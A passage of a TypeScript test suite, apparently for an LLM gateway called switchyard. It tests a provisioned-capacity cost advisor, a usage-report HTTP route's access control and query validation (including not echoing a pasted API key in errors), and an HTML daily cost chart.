    expect(a).toMatchObject({ servedOnProvisionedUsd: 0.35, daysWithData: 1, verdict: 'below-break-even' });
  });

  it('finds the on-demand peers of a provisioned model whose ARN hides the model by its base_model', async () => {
    const arn = 'arn:aws:bedrock:us-east-1:123456789012:provisioned-model/abc123';
    const config = resolveConfig({
      deployments: [
        { id: 'opus-on-demand', provider: 'bedrock', model: 'anthropic.claude-opus-4-7', region: 'us-east-1', api_key: 'k' },
        { id: 'opus-ptu', provider: 'bedrock', model: arn, base_model: 'anthropic.claude-opus-4-7', region: 'us-east-1', api_key: 'k', provisioned: { monthly_usd: 1_000, capacity_rpm: 100 } },
      ],
      pricing: { deployments: { 'opus-on-demand': { input: 5, output: 25 }, 'opus-ptu': { input: 0, output: 0 } } },
    });
    const store = await SqlLedgerStore.open(openSqlite(':memory:'));
    await store.insert([toUsageEvent(attempt({ requestId: 'p', startedAt: D('2025-06-02'), deployment: 'opus-ptu', model: arn, usage: makeUsage({ prompt: 1_000_000, completion: 0 }) }), { usd: 0, priced: true })]);
    const [a] = await advise(store, config, Date.parse('2025-06-01'), Date.parse('2025-06-08'));
    await store.close();
    expect(a).toMatchObject({ deployment: 'opus-ptu', peers: ['opus-on-demand'], servedPricedAs: 'opus-on-demand', servedOnProvisionedUsd: 5 });
  });

  it('refuses --format csv and html with exit 2 and the usage line rather than ignoring them', async () => {
    for (const format of ['csv', 'html']) {
      const c = io();
      expect(await main(['report', '--sqlite', ':memory:', '--advise', '--format', format], c.io)).toBe(2);
      expect(c.err).toEqual([`switchyard report: --advise prints text (the default) or --format json; "${format}" is not supported with it`, expect.stringMatching(/^usage: switchyard report /)]);
      expect(c.out).toEqual([]);
    }
  });

  it('without -c is a usage error: exit 2 with the usage line, whatever ledger was named or found, and no word of reading one', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'advise-no-config-'));
    mkdirSync(join(cwd, '.switchyard'));
    await (await SqlLedgerStore.open(openSqlite(join(cwd, '.switchyard', 'demo-ledger.sqlite')))).close();
    for (const argv of [['report', '--advise', '--sqlite', join(cwd, 'absent.sqlite')], ['report', '--advise']]) {
      const c = io();
      expect(await main(argv, { ...c.io, cwd }), argv.join(' ')).toBe(2);
      expect(c.err).toEqual(['switchyard report: --advise needs the config (-c FILE): it reads the provisioned deployments from it', expect.stringMatching(/^usage: switchyard report /)]);
    }
  });
});

describe('GET /v1/switchyard/usage', () => {
  it('answers the report query as JSON; keys without role admin see only their own usage, whatever their tags say', async () => {
    const store = await SqlLedgerStore.open(openSqlite(':memory:'));
    await store.insert(fixture());
    const route = createUsageRoute(store, () => D('2025-06-03'));
    // A free-form tag is attribution, not a grant: only the key's `role` makes an admin.
    let caller: Caller = { ...NOBODY, keyId: 'alice', tags: { key: 'alice', role: 'admin' }, role: 'user' };
    const get = async (query: string): Promise<{ status: number; body: unknown }> => {
      const ctx = { query: new URLSearchParams(query), caller } as unknown as RouteContext;
      try {
        const answer = await route.handle(ctx);
        return { status: answer.status, body: JSON.parse(answer.body as string) };
      } catch (err) {
        return { status: (err as GatewayError).status, body: openAIErrorBody(err as GatewayError) };
      }
    };
    const own = (await get('from=2025-06-01&to=2025-06-03&group_by=provider')).body as { total: { costUsd: number }; group_by: string[] };
    expect(own.group_by).toEqual(['provider']);
    expect(own.total.costUsd).toBe(6.25);
    caller = { ...NOBODY, keyId: 'root', tags: { key: 'root' }, role: 'admin' };
    const all = (await get('from=2025-06-01&to=2025-06-03&group_by=key')).body as { total: { costUsd: number } };
    expect(all.total.costUsd).toBe(7);
    const bad = await get('group_by=nope');
    expect(bad.status).toBe(400);
    expect((bad.body as { error: { code: string } }).error.code).toBe('invalid_usage_query');
    await store.close();
  });

  it('refuses a group_by the database cannot take (more than 16 dimensions, or one named twice) with a 400 naming the limit, for any key', async () => {
    const store = await SqlLedgerStore.open(openSqlite(':memory:'));
    await store.insert(fixture());
    const route = createUsageRoute(store, () => D('2025-06-03'));
    const caller: Caller = { ...NOBODY, keyId: 'alice', tags: { key: 'alice' }, role: 'user' };
    const get = async (groupBy: string) => {
      const ctx = { query: new URLSearchParams({ group_by: groupBy }), caller } as unknown as RouteContext;
      const error = toGatewayError(await route.handle(ctx).then(() => undefined, (err: unknown) => err));
      return [error.status, error.code, error.clientMessage()];
    };
    // 2,000 tag dimensions was a SQL statement past SQLite's column limit: an internal error, logged with its stack.
    const tags = Array.from({ length: 2000 }, (_, i) => `tag:t${i}`).join(',');
    expect(await get(tags)).toEqual([400, 'invalid_usage_query', 'group_by: group by at most 16 dimensions; 2000 were given']);
    expect(await get('day,provider,day')).toEqual([400, 'invalid_usage_query', 'group_by: a group-by is named twice']);
    const sixteen = ['provider', 'model', 'deployment', 'region', 'key', 'team', 'user', 'group', 'day', 'status', 'operation', 'role', 'tag:a', 'tag:b', 'tag:c', 'tag:d'];
    const answer = await route.handle({ query: new URLSearchParams({ group_by: sixteen.join(',') }), caller } as unknown as RouteContext);
    expect((JSON.parse(answer.body as string) as { group_by: string[] }).group_by).toEqual(sixteen);
    await store.close();
  });

  it('refuses a parameter it does not take or one given twice, rather than answering another report than the one asked for', async () => {
    const store = await SqlLedgerStore.open(openSqlite(':memory:'));
    const route = createUsageRoute(store, () => D('2025-06-03'));
    const caller: Caller = { ...NOBODY, keyId: 'root', tags: { key: 'root' }, role: 'admin' };
    const get = async (query: string) => {
      const ctx = { query: new URLSearchParams(query), caller } as unknown as RouteContext;
      const result = await route.handle(ctx).then((answer) => answer.status, (err: unknown) => err);
      if (typeof result === 'number') return result;
      const error = toGatewayError(result);
      return [error.status, error.code, error.param, error.clientMessage()];
    };
    const pasted = 'sy-0123456789ab-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-AbCd';
    expect(await get('group_by=key&group_by=team')).toEqual([400, 'invalid_usage_query', 'group_by', 'group_by: given more than once; give one value (group_by takes a comma-separated list)']);
    expect(await get('from=2025-06-01&from=2025-06-02')).toEqual([400, 'invalid_usage_query', 'from', 'from: given more than once; give one value (group_by takes a comma-separated list)']);
    for (const query of ['bogus=1', `${pasted}=1`, 'format=csv', 'grop_by=day']) {
      const answer = await get(query);
      expect(answer, query).toEqual([400, 'invalid_usage_query', undefined, 'the query names a parameter this route does not take (it takes from, to and group_by)']);
    }
    // 0001-01-01 is a day (Date.UTC read it as 1901 and called it no such day): an empty report.
    expect(await get('to=0001-01-01')).toBe(200);
    expect(await get('from=2025-06-01&to=2025-06-02&group_by=key,team')).toBe(200);
    await store.close();
  });

  it('refuses a bad from, to or group_by naming the parameter and quoting none of it: a key pasted into the query string does not come back', async () => {
    const store = await SqlLedgerStore.open(openSqlite(':memory:'));
    const route = createUsageRoute(store, () => D('2025-06-03'));
    const caller: Caller = { ...NOBODY, keyId: 'alice', tags: { key: 'alice' }, role: 'user' };
    const pasted = 'sy-0123456789ab-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-AbCd';
    const get = async (query: Record<string, string>) => {
      const ctx = { query: new URLSearchParams(query), caller } as unknown as RouteContext;
      const error = toGatewayError(await route.handle(ctx).then(() => undefined, (err: unknown) => err));
      return [error.status, error.code, error.param, error.clientMessage()];
    };
    const expected = 'expected YYYY-MM-DD or an ISO 8601 time with Z or an offset (2025-06-01T12:00:00Z)';
    expect(await get({ from: pasted })).toEqual([400, 'invalid_usage_query', 'from', `from: not a date; ${expected}`]);
    expect(await get({ to: pasted })).toEqual([400, 'invalid_usage_query', 'to', `to: not a date; ${expected}`]);
    // What Date.parse guessed at: Feb 30 as March 2, "5" as 2001-05-01, words, a time in the server's zone.
    expect(await get({ from: '2025-02-30' })).toEqual([400, 'invalid_usage_query', 'from', `from: no such day or time; ${expected}`]);
    for (const from of ['5', 'June 1', '2025-06-01T00:00:00']) expect(await get({ from }), from).toEqual([400, 'invalid_usage_query', 'from', `from: not a date; ${expected}`]);
    expect(await get({ group_by: `day,${pasted}` })).toEqual([400, 'invalid_usage_query', 'group_by', expect.stringMatching(/^group_by: a group-by is none of these; expected provider, model, /)]);
    expect(await get({ group_by: `tag:${pasted},tag:${pasted}` })).toEqual([400, 'invalid_usage_query', 'group_by', 'group_by: a group-by is named twice']);
    await store.close();
  });

  it('answers 503 ledger_unavailable, not an internal error, while the ledger database is down, and logs why', async () => {
    // Nothing listens on port 1: the database is down from the start, as `connect` allows.
    const store = await SqlLedgerStore.connect(openPostgres('postgres://postgres@127.0.0.1:1/test', 'public', silentLogger), { logger: silentLogger, retryMs: 60_000 });
    const warnings: string[] = [];
    const logger = { ...silentLogger, warn: (_: unknown, message: string) => warnings.push(message) };
    const route = createUsageRoute(store, () => D('2025-06-03'), logger);
    const ctx = { query: new URLSearchParams(), caller: { ...NOBODY, keyId: 'root', role: 'admin' } } as unknown as RouteContext;
    const error = toGatewayError(await route.handle(ctx).then(() => undefined, (err: unknown) => err));
    expect([error.status, error.code, error.clientMessage(), error.retryAfterMs]).toEqual([503, 'ledger_unavailable', 'The usage ledger cannot be read right now; try again shortly.', 1_000]);
    expect(warnings).toEqual(['usage query failed: the ledger database cannot be reached']);
    await store.close();
  });
});

describe('the HTML report\'s daily chart', () => {
  it('draws every UTC day the range touches, the last partial one too, when --from is not at midnight', () => {
    const row = (day: string, usd: number): UsageRow => ({ ...emptyRow(), keys: { day, provider: 'openai' }, costUsd: usd, attempts: 1 });
    const svg = dailyChartSvg({ from: '2025-06-01T12:00:00.000Z', to: '2025-06-03T06:00:00.000Z' }, [row('2025-06-01', 1), row('2025-06-02', 2), row('2025-06-03', 50)]);
    expect([...svg.matchAll(/data-day="([^"]+)"/g)].map((m) => m[1])).toEqual(['2025-06-01', '2025-06-02', '2025-06-03']);
  });
});
